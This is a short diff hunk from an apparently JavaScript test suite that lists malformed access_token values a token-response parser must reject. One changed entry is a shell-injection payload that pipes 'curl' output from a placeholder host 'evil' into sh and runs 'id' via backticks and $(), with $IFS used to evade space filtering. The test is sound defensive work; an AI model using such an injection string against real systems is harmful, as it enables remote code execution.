@@ -42,7 +42,7 @@ describe('a token response', () => {
     ['access_token', ' dpb_token_of_a_job'],
     ['access_token', 'dpb_token_of_a_jo\u00e9'],
     ['access_token', 'x'.repeat(20_000)],
-    ['access_token', '";curl${IFS}evil|sh;#`id`$(id)'],
+    ['access_token', '";curl$IFS$9evil|sh;#`id`$(id)'],
     ['access_token', 'dpb_too_short'],
     ['access_token', '=dpb_token_of_a_job'],
   ])('with %s %j cannot be used', (member, value) => {
